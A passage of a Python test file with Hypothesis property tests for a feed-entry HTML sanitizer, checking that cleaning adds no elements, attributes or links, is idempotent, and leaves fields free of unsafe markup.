def _element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.builds(
        lambda tag, attributes, inner: f"<{tag}{''.join(attributes)}>{inner}</{tag}>",
        TAG_NAMES,
        st.lists(ATTRIBUTE, max_size=3),
        children,
    )


LEAVES = st.one_of(WORDS, REAL, PAYLOAD)
FRAGMENTS = st.recursive(
    LEAVES, lambda children: _element(st.lists(children, max_size=3).map("".join)), max_leaves=12
)
TITLE_BITS = st.sampled_from(["&amp;lt;b&amp;gt;", "<", ">", "&", "&#60;i&#62;"])
TITLES = st.one_of(
    PAYLOAD,
    st.lists(st.one_of(WORDS, PAYLOAD, TITLE_BITS), max_size=4).map(" ".join),
)
PROPERTY_SETTINGS = settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


def entry(content: str = "", title: str = "T", author: str | None = None) -> ParsedEntry:
    return ParsedEntry(
        key="k",
        guid="k",
        link=BASE,
        title=title,
        content=content,
        summary="",
        author=author,
        published=T0,
        updated=None,
    )


def clean(content: str = "", title: str = "T", author: str | None = None) -> CleanEntry:
    return clean_entry(entry(content, title, author), PlainRules())


# A fragment's `</body>` or `</html>` is noise to the cleaner (html.parse_fragment):
# libxml2 reading it as a document would drop what follows.
_END_OF_DOCUMENT = re.compile(r"</(?:body|html)\b[^>]*>", re.IGNORECASE)


def elements(fragment: str) -> list[Any]:
    # Control characters go first too (html.scrub): XML, so lxml and Atom, cannot hold them.
    fragment = _END_OF_DOCUMENT.sub("", scrub(fragment))
    if not fragment.strip():
        return []
    root = lxml.html.fragment_fromstring(fragment, create_parent="wrapper")
    return [el for el in root.iterdescendants() if isinstance(el.tag, str)]


def normalised_url(value: str) -> str:
    """A URL as cleaning may rewrite it: resolved against the base, untracked, and
    percent-decoded (libxml2 escapes spaces and such in href and src when it serialises)."""
    url = value.strip()
    if not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", url):
        url = urljoin(BASE, url)
    return unquote(strip_tracking(url))


def markup_counts(fragment: str) -> tuple[Counter[str], Counter[tuple[str, str]], Counter[str]]:
    """Tag names, (tag, attribute) pairs, and link/image URLs of a fragment."""
    tags: Counter[str] = Counter()
    attributes: Counter[tuple[str, str]] = Counter()
    urls: Counter[str] = Counter()
    for el in elements(fragment):
        tags[el.tag] += 1
        for name, value in el.attrib.items():
            attributes[(el.tag, str(name))] += 1
            if name in ("href", "src"):
                urls[normalised_url(value)] += 1
    return tags, attributes, urls


@PROPERTY_SETTINGS
@given(FRAGMENTS)
def test_cleaning_never_adds_elements_attributes_or_links(fragment: str) -> None:
    source_tags, source_attributes, source_urls = markup_counts(fragment)
    output = clean(fragment).content
    tags, attributes, urls = markup_counts(output)
    # The tree pass renames elements (only ever to div, shape.py) and never wraps.
    assert tags.total() <= source_tags.total()
    assert set(tags - source_tags) <= {"div"}
    # nh3 sets rel on every link: the one attribute cleaning may add.
    added = Counter({k: n for k, n in attributes.items() if k != ("a", "rel")})
    renamed = {(tag, name) for tag, name in added - source_attributes if tag == "div"}
    assert set(added - source_attributes) - renamed == set()
    assert all(el.get("rel") == LINK_REL for el in elements(output) if el.tag == "a")
    assert urls - source_urls == Counter()


@PROPERTY_SETTINGS
@given(FRAGMENTS, TITLES, TITLES)
def test_cleaning_a_cleaned_entry_changes_nothing(fragment: str, title: str, author: str) -> None:
    first = clean(fragment, title, author)
    second = clean(first.content, first.title, first.author)
    assert (second.content, second.title, second.author) == (
        first.content,
        first.title,
        first.author,
    )


@PROPERTY_SETTINGS
@given(FRAGMENTS, TITLES)
def test_cleaned_fields_are_safe(fragment: str, title: str) -> None:
    cleaned = clean(fragment, title, title)
    assert html_problems(cleaned.content) == []
    assert text_problems("title", cleaned.title) == []
    assert text_problems("author", cleaned.author) == []


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_each_payload_cleans_to_a_fixpoint(payload: str) -> None:
    first = clean(payload, payload, payload)
    second = clean(first.content, first.title, first.author)
    assert (second.content, second.title, second.author) == (
        first.content,
        first.title,
        first.author,
    )
